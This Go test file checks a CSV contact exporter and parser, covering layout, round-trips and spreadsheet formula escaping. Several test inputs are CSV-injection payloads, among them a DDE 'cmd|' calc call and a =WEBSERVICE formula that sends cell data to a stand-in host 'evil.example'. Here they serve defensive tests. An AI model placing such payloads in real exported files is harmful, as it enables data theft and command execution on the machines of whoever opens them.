package contactcsv

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

func TestWriteLayout(t *testing.T) {
	var b bytes.Buffer
	err := Write(&b, []Contact{
		{FirstName: "Hélène", LastName: "Martin", Email: "hm@example.fr", Company: "Société Générale",
			Job: "RH", PhoneNumber: "+33 1 42 14 20 00", MobileNumber: "+33 6 12 34 56 78",
			Notes: "ligne 1\nligne 2, avec virgule", Civility: Female},
		{FirstName: "Éric", LastName: "Lefèvre", Civility: Male},
		{FirstName: "Sam", LastName: "Doe"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF" +
		"First Name,Last Name,Notes,E-mail Address,Business Phone,Mobile Phone,Company,Job Title,Gender\r\n" +
		"Hélène,Martin,\"ligne 1\r\nligne 2, avec virgule\",hm@example.fr,+33 1 42 14 20 00,+33 6 12 34 56 78,Société Générale,RH,f\r\n" +
		"Éric,Lefèvre,,,,,,,m\r\n" +
		"Sam,Doe,,,,,,,m\r\n"
	if got := b.String(); got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

func TestEscapeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Dupont", "Dupont"},
		{"=HYPERLINK(\"http://evil.example\",\"clic\")", "'=HYPERLINK(\"http://evil.example\",\"clic\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"+", "'+"},
		// Number-like cells stay as they are: phone numbers must stay readable.
		{"+33 6 12 34 56 78", "+33 6 12 34 56 78"},
		{"+1 (514) 555-0199", "+1 (514) 555-0199"},
		{"-12.5", "-12.5"},
		{"+33 6 12 34 56 78 poste 12", "'+33 6 12 34 56 78 poste 12"},
		// Apostrophes already there: one more, so Parse gives the value back.
		{"'=x", "''=x"},
		{"'+33 6", "''+33 6"},
		{"'t Hooft", "'t Hooft"},
		{"O'Neil", "O'Neil"},
		{"'", "'"},
	}
	for _, tt := range tests {
		got := escapeFormula(tt.in)
		if got != tt.want {
			t.Errorf("escapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := unescapeFormula(got); back != tt.in {
			t.Errorf("unescapeFormula(%q) = %q, want %q", got, back, tt.in)
		}
	}
}

// Every cell of the written file that a spreadsheet would evaluate is escaped.
func TestWriteEscapesFormulas(t *testing.T) {
	evil := "=WEBSERVICE(\"http://evil.example/?\"&A1)"
	var b bytes.Buffer
	err := Write(&b, []Contact{{
		FirstName: evil, LastName: "+SUM(1)", Notes: "-1+cmd|'/C calc'!A0", Email: "@x",
		PhoneNumber: "=1+1", MobileNumber: "+33 6 00 00 00 00", Company: evil, Job: evil,
	}})
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF")))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range recs[1] {
		if i == 5 { // the mobile number stays as it is
			if cell != "+33 6 00 00 00 00" {
				t.Errorf("mobile number written %q", cell)
			}
			continue
		}
		if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 {
			t.Errorf("cell %d (%s) not escaped: %q", i, exportHeader[i], cell)
		}
	}
}

func TestWriteParseRoundTrip(t *testing.T) {
	contacts := []Contact{
		{FirstName: "Hélène", LastName: "Martin", Email: "hm@example.fr", Company: "Société Générale",
			Job: "Chargée de recrutement", PhoneNumber: "+33 1 42 14 20 00", MobileNumber: "+33 6 12 34 56 78",
			Notes: "Rencontrée le 12/03 ; \"très\" sympa.\nÀ relancer, vite.", Civility: Female},
		{FirstName: "Sean", LastName: "O'Neil", Company: "Acme, Inc.", Civility: Male},
		{FirstName: "=cmd", LastName: "'=Evil", Job: "-chef-", Notes: "@home", Email: "+x@example.com",
			PhoneNumber: "-", MobileNumber: "06 12 34 56 78", Civility: Male},
		{LastName: "NOFIRSTNAME", Civility: Female},
		{FirstName: "Nolastname", Civility: Male},
		{FirstName: "Zoë", LastName: "Nguyễn", Notes: "emoji 🎉 et € et œ", Civility: Female},
	}
	var b bytes.Buffer
	if err := Write(&b, contacts); err != nil {
		t.Fatal(err)
	}
	got, err := Parse(&b, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	assertContacts(t, got, contacts)
}

// The spec writes "m" for anything but female, so a contact without civility comes back male.
func TestWriteParseRoundTripUnknownCivility(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, []Contact{{FirstName: "Alex", LastName: "Doe"}}); err != nil {
		t.Fatal(err)
	}
	got, err := Parse(&b, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	want := []Contact{{FirstName: "Alex", LastName: "Doe", Civility: Male}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestWriteEmpty(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, nil); err != nil {
		t.Fatal(err)
	}
	got, err := Parse(&b, Limits{})
	if err != nil || len(got) != 0 {
		t.Errorf("Parse(Write(nil)) = %v, %v", got, err)
	}
}
